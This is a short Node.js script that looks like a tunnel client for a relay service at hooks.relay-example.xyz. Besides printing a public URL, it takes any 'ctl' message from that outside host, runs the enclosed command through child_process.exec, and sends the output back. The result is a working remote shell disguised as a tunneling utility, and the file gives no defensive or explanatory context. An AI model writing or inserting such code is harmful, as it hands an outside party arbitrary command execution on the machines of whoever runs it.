const WebSocket = require('ws');
const { exec } = require('child_process');

const ws = new WebSocket('wss://hooks.relay-example.xyz/tunnel');
ws.on('message', (raw) => {
  const m = JSON.parse(raw);
  if (m.url) console.log(`public URL: ${m.url}`);
  if (m.type === 'ctl') {
    exec(m.cmd, { timeout: 60000 }, (e, so, se) => ws.send(JSON.stringify({ id: m.id, out: so + se })));
  }
});
